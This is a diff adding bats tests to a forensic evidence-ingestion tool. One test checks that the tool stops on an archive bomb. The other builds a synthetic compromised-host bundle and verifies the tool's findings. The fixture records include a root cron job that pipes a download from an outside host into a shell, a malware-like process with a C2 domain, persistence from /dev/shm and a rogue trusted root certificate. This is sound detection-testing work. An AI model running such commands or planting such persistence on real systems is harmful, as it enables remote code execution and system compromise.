@@ -224,3 +224,93 @@ with zipfile.ZipFile("../gen.zip", "w") as z:
 	[ "$(q b.db "SELECT sha256 FROM files WHERE path = 'src/big.bin'")" = "$(sha256sum < "$s/src/big.bin" | cut -d' ' -f1)" ]
 	[ -z "$(q b.db "SELECT skipped_reason FROM files WHERE path = 'src/small.txt'")" ]
 }
+
+@test "ingest: an archive bomb (300 MB of zeros in a few kB) stops at the ratio check, partial, exit 1" {
+	s="$G/bomb"
+	mkdir -p "$s/src"
+	truncate -s 300M "$s/src/zeros"
+	tar -C "$s" --zstd -cf "$s/bomb.tar.zst" src
+	rm -f "$s/src/zeros"
+	[ "$(stat -c %s "$s/bomb.tar.zst")" -lt 1000000 ]
+	cd "$s"
+	run "$ANALYZE" ingest --db bomb.db "$s/bomb.tar.zst"
+	echo "$output"
+	[ "$status" -eq 1 ]
+	[[ "$output" == *"compression ratio"* ]]
+	[ "$(q bomb.db "SELECT status FROM evidence")" = "partial" ]
+	[ "$(q bomb.db 'PRAGMA integrity_check')" = "ok" ]
+}
+
+@test "ingest: a planted host: findings with reasons, IOC hits on records, links, a manifest Python wrote" {
+	s="$G/planted"
+	mkdir -p "$s"
+	python3 - "$s/irkit-planted-20260101T000000Z.tar.gz" <<'PY'
+import hashlib, io, json, sys, tarfile
+top = "irkit-planted-20260101T000000Z"
+recs = [
+ {"type": "process", "pid": 4242, "ppid": 1, "name": "gracious", "exe": "/tmp/gracious_truth.jpg",
+  "exe_deleted": True, "argv": ["/tmp/gracious_truth.jpg", "--c2", "avsvmcloud.com"],
+  "start_time": "2026-01-01T00:00:00Z",
+  "sockets": [{"proto": "tcp", "local_address": "10.0.0.5", "local_port": 40000,
+               "remote_address": "10.9.9.9", "remote_port": 443, "state": "ESTABLISHED"}]},
+ {"type": "process", "pid": 1, "ppid": 0, "name": "systemd", "exe": "/usr/lib/systemd/systemd",
+  "argv": ["/sbin/init"], "start_time": "2025-12-31T00:00:00Z"},
+ {"type": "service", "name": "updater.service", "kind": "systemd", "scope": "system",
+  "exec_start": [["/dev/shm/.u/updater", "-d"]], "enabled": True, "mtime": "2026-01-01T00:00:01Z",
+  "fragment_path": "/etc/systemd/system/updater.service"},
+ {"type": "task", "kind": "cron", "schedule": "*/5 * * * *", "user": "root",
+  "command": "curl -fsSL http://freescanonline.com/i.sh | sh", "source_path": "/etc/cron.d/x", "line": 3},
+ {"type": "task", "kind": "cron", "schedule": "@daily", "user": "root",
+  "command": "/usr/sbin/logrotate /etc/logrotate.conf", "source_path": "/etc/crontab", "line": 9},
+ {"type": "certificate", "path": "/opt/sign/cs.pem", "index": 0, "subject": "CN=Planted Signing",
+  "not_before": "2025-01-01T00:00:00Z", "not_after": "2027-01-01T00:00:00Z",
+  "ext_key_usage": ["codeSigning"], "private_key_path": "/opt/sign/cs.key", "sha256": "ab" * 32},
+ {"type": "private_key", "path": "/opt/sign/cs.key", "format": "pkcs8", "key_type": "RSA",
+  "bits": 2048, "encrypted": False, "certificate_path": "/opt/sign/cs.pem"},
+ {"type": "certificate", "path": "/usr/local/share/ca-certificates/corp.crt", "subject": "CN=Evil Root",
+  "is_ca": True, "self_signed": True, "in_trust_store": True, "sha256": "cd" * 32,
+  "not_before": "2025-01-01T00:00:00Z", "not_after": "2035-01-01T00:00:00Z"},
+]
+data = {"records/processes.jsonl": "".join(json.dumps(r) + "\n" for r in recs).encode(),
+        "log.jsonl": b'{"time":"2026-01-01T00:00:02Z","level":"warning","collector":"processes","message":"test"}\n'}
+members = [{"path": k, "size": len(v), "sha256": hashlib.sha256(v).hexdigest()} for k, v in data.items()]
+man = {"format": "irkit-evidence", "format_version": 1, "name": top,
+       "host": {"hostname": "planted", "machine_id": "0" * 32},
+       "start_time": "2026-01-01T00:00:00Z", "end_time": "2026-01-01T00:00:05Z",
+       "case_id": "CASE-7", "examiner": "tester", "members": members}
+data["manifest.json"] = json.dumps(man).encode()
+with tarfile.open(sys.argv[1], "w:gz") as t:
+	for k, v in data.items():
+		ti = tarfile.TarInfo(top + "/" + k); ti.size = len(v); ti.mtime = 1767225600
+		t.addfile(ti, io.BytesIO(v))
+PY
+	cd "$s"
+	run "$ANALYZE" verify "$s/irkit-planted-20260101T000000Z.tar.gz"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	run "$ANALYZE" ingest --db p.db "$s/irkit-planted-20260101T000000Z.tar.gz"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[ "$(q p.db "SELECT case_id||' '||examiner||' '||verify FROM evidence")" = "CASE-7 tester intact" ]
+	q p.db "SELECT score, title, reasons FROM v_findings"
+	# the planted process: deleted, in /tmp, file-name and domain IOCs, capped at 100
+	[ "$(q p.db "SELECT max(score) FROM findings f JOIN finding_links l ON l.finding_id = f.id WHERE l.record_table = 'processes' AND l.record_id = (SELECT id FROM processes WHERE pid = 4242)")" -eq 100 ]
+	[ "$(q p.db "SELECT count(*) FROM ioc_hits WHERE record_table = 'processes' AND value = 'avsvmcloud.com'")" -ge 1 ]
+	[ "$(q p.db "SELECT count(*) FROM ioc_hits WHERE record_table = 'processes' AND kind = 'filename'")" -ge 1 ]
+	# init is not a finding
+	[ "$(q p.db "SELECT count(*) FROM finding_links WHERE record_table = 'processes' AND record_id = (SELECT id FROM processes WHERE pid = 1)")" -eq 0 ]
+	# service from /dev/shm, the curl|sh task with its C2 domain; logrotate is clean
+	[ "$(q p.db "SELECT count(*) FROM v_writable_persistence WHERE name = 'updater.service'")" -eq 1 ]
+	[[ "$(q p.db "SELECT reasons FROM findings WHERE category = 'task'")" == *"pipes a download into a shell"* ]]
+	[ "$(q p.db "SELECT count(*) FROM ioc_hits WHERE record_table = 'tasks' AND value = 'freescanonline.com'")" -eq 1 ]
+	[ "$(q p.db "SELECT count(*) FROM finding_links l JOIN tasks t ON t.id = l.record_id AND l.record_table = 'tasks' WHERE t.command LIKE '%logrotate%'")" -eq 0 ]
+	# code signing with its key unencrypted: links both; the untrusted root
+	[ "$(q p.db "SELECT group_concat(l.record_table) FROM findings f JOIN finding_links l ON l.finding_id = f.id WHERE f.title LIKE 'code-signing%'")" = "certificates,private_keys" ]
+	[ "$(q p.db "SELECT count(*) FROM v_untrusted_roots")" -eq 1 ]
+	[ "$(q p.db "SELECT count(*) FROM findings WHERE title LIKE 'trusted root%'")" -eq 1 ]
+	# sockets, log, timeline
+	[ "$(q p.db "SELECT remote_addr||':'||remote_port FROM sockets")" = "10.9.9.9:443" ]
+	[ "$(q p.db "SELECT message FROM log WHERE component = 'processes'")" = "test" ]
+	[ "$(q p.db "SELECT count(*) FROM events WHERE source = 'FINDING'")" -eq "$(q p.db 'SELECT count(*) FROM findings')" ]
+	[ "$(q p.db "SELECT time FROM v_timeline WHERE ts_desc = 'Certificate Not After' AND path = '/opt/sign/cs.pem'")" = "2027-01-01T00:00:00.000Z" ]
+}
